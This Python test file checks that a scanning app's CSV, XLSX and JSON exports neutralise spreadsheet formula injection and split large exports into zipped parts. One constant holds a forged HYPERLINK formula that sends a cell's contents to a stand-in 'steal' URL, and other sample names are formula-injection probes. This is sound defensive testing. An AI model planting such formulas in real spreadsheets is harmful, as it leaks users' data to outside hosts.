"""Exports opened the way admins open them: csv module (French Excel dialect), openpyxl, JSON."""

from __future__ import annotations

import csv
import json
import zipfile
from collections.abc import AsyncIterator, Iterable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import openpyxl

from extraction.models import DocumentType, EngineInfo, FieldResult, FieldStatus, ScanResult, Source
from papiers.exports import ExportFormat, export_scans
from papiers.exports.columns import field_names
from papiers.store import Scan, ScanStatus

FORGED = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Cliquez ici")'
START = datetime(2026, 11, 2, 9, 30, tzinfo=UTC)


def licence_result(surname: str, number: str = "1234567A") -> ScanResult:
    def field(value: str | int | None, source: Source = Source.OCR) -> FieldResult:
        status = FieldStatus.VALID if value is not None else FieldStatus.MISSING
        return FieldResult(value=value, confidence=0.95, status=status, source=source)

    fields = {name: field(None) for name in field_names(DocumentType.FFT_LICENCE)}
    fields.update(
        licence_number=field(number, Source.BARCODE),
        surname=field(surname),
        given_names=field("ÉLODIE"),
        birth_date=field("1991-04-05"),
        ranking=field("-15"),
    )
    return ScanResult(
        document_type=DocumentType.FFT_LICENCE,
        country="FRA",
        fields=fields,
        engine=EngineInfo(provider="local", duration_ms=900),
    )


def scan(number: int, result: ScanResult, *, reviewed: bool = False) -> Scan:
    created = START + timedelta(minutes=number)
    return Scan(
        id=number,
        user_id=111,
        chat_id=111,
        status=ScanStatus.DONE,
        language="fr",
        type_hint=None,
        idempotency_key=f"k{number}",
        files=(),
        ack_message_id=None,
        attempts=1,
        error_code=None,
        document_type=result.document_type.value,
        provider="local",
        duration_ms=900,
        cost_eur=0.0,
        result_json=result.to_json(),
        reviewed=reviewed,
        created_at=created,
        started_at=created,
        finished_at=created + timedelta(seconds=3),
    )


async def stream(scans: Iterable[Scan]) -> AsyncIterator[Scan]:
    for item in scans:
        yield item


def sample_scans(count: int = 3) -> list[Scan]:
    names = [FORGED, "DUPONT", "+33 MARTIN", "@SUM(1)", "\tTAB", "LEGRAND"]
    return [
        scan(n, licence_result(names[(n - 1) % len(names)]), reviewed=n == 2)
        for n in range(1, count + 1)
    ]


async def test_csv_is_french_excel_with_bom_semicolons_and_no_formula(tmp_path: Path) -> None:
    outcome = await export_scans(
        stream(sample_scans(5)),
        ExportFormat.CSV,
        directory=tmp_path,
        stem="export",
        document_type=DocumentType.FFT_LICENCE,
    )
    [path] = outcome.files
    assert path.name == "export.csv" and outcome.rows == 5
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfscan_id;document_type;")
    with path.open(encoding="utf-8-sig", newline="") as source:
        rows = list(csv.DictReader(source, delimiter=";"))
    assert [r["scan_id"] for r in rows] == ["1", "2", "3", "4", "5"]
    assert rows[0]["surname"] == "'" + FORGED
    assert rows[0]["surname_status"] == "valid" and rows[0]["surname_source"] == "ocr"
    assert rows[1]["surname"] == "DUPONT" and rows[1]["reviewed"] == "True"
    assert rows[2]["surname"] == "'+33 MARTIN" and rows[3]["surname"] == "'@SUM(1)"
    assert rows[4]["surname"] == "'\tTAB"
    assert rows[0]["ranking"] == "'-15"  # a ranking like -15 is text: it must not become a formula
    assert rows[0]["given_names"] == "ÉLODIE" and rows[0]["licence_number_source"] == "barcode"
    assert rows[0]["club_name"] == "" and rows[0]["agent_id"] == "111"
    for line in rows:
        assert not any(
            value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in line.values()
        )


async def test_csv_with_commas_on_request(tmp_path: Path) -> None:
    outcome = await export_scans(
        stream(sample_scans(2)), ExportFormat.CSV, directory=tmp_path, stem="e", delimiter=","
    )
    with outcome.files[0].open(encoding="utf-8-sig", newline="") as source:
        rows = list(csv.DictReader(source))
    assert rows[1]["surname"] == "DUPONT"
    # Without a type, every known type's fields are columns.
    assert "vin" in rows[0] and "card_model" in rows[0] and rows[0]["vin"] == ""


async def test_xlsx_opens_with_values_and_the_forged_name_is_text(tmp_path: Path) -> None:
    outcome = await export_scans(
        stream(sample_scans(3)),
        ExportFormat.XLSX,
        directory=tmp_path,
        stem="export",
        document_type=DocumentType.FFT_LICENCE,
    )
    workbook = openpyxl.load_workbook(outcome.files[0])
    sheet = workbook["scans"]
    rows = list(sheet.iter_rows(values_only=True))
    head = list(rows[0])
    first = dict(zip(head, rows[1], strict=True))
    assert first["scan_id"] == 1 and first["surname"] == "'" + FORGED
    assert first["birth_date"] == "1991-04-05" and first["reviewed"] is False
    assert dict(zip(head, rows[2], strict=True))["reviewed"] is True
    column = head.index("surname") + 1
    assert sheet.cell(row=2, column=column).data_type == "s"  # text, not a formula
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)


async def test_json_lines_hold_full_envelopes(tmp_path: Path) -> None:
    scans = sample_scans(2)
    outcome = await export_scans(stream(scans), ExportFormat.JSON, directory=tmp_path, stem="e")
    lines = outcome.files[0].read_text(encoding="utf-8").splitlines()
    records = [json.loads(line) for line in lines]
    assert records[0]["result"] == json.loads(scans[0].result_json or "")
    assert records[0]["result"]["fields"]["surname"]["value"] == FORGED  # JSON is not a sheet
    assert records[1]["scan"]["reviewed"] is True and records[1]["scan"]["agent_id"] == 111


async def test_an_empty_export_is_a_header_only_file(tmp_path: Path) -> None:
    outcome = await export_scans(stream([]), ExportFormat.CSV, directory=tmp_path, stem="e")
    [path] = outcome.files
    assert outcome.rows == 0
    assert path.read_text(encoding="utf-8-sig").startswith("scan_id;")


async def test_large_exports_are_split_into_parts_and_zipped_under_the_limit(
    tmp_path: Path,
) -> None:
    scans = sample_scans(120)
    limit = 12_000
    outcome = await export_scans(
        stream(scans),
        ExportFormat.CSV,
        directory=tmp_path,
        stem="big",
        document_type=DocumentType.FFT_LICENCE,
        max_part_bytes=8_000,
        limit=limit,
    )
    assert outcome.parts > 3
    assert all(path.suffix == ".zip" for path in outcome.files)
    assert all(path.stat().st_size <= limit for path in outcome.files)
    assert len(outcome.files) < outcome.parts  # compression lets several parts share an archive
    seen: list[str] = []
    for archive in outcome.files:
        with zipfile.ZipFile(archive) as zipped:
            for name in zipped.namelist():
                text = zipped.read(name).decode("utf-8-sig")
                rows = list(csv.DictReader(text.splitlines(), delimiter=";"))
                assert rows, name  # every part has its header and at least one row
                seen.extend(r["scan_id"] for r in rows)
    assert seen == [str(s.id) for s in scans]


async def test_xlsx_parts_each_open_on_their_own(tmp_path: Path) -> None:
    outcome = await export_scans(
        stream(sample_scans(40)),
        ExportFormat.XLSX,
        directory=tmp_path,
        stem="big",
        document_type=DocumentType.FFT_LICENCE,
        max_part_bytes=40_000,
        limit=200_000,
    )
    assert outcome.parts >= 2 and [p.name for p in outcome.files] == ["big.zip"]
    total = 0
    with zipfile.ZipFile(outcome.files[0]) as zipped:
        for name in zipped.namelist():
            extracted = Path(zipped.extract(name, tmp_path / "out"))
            total += openpyxl.load_workbook(extracted)["scans"].max_row - 1
    assert total == 40
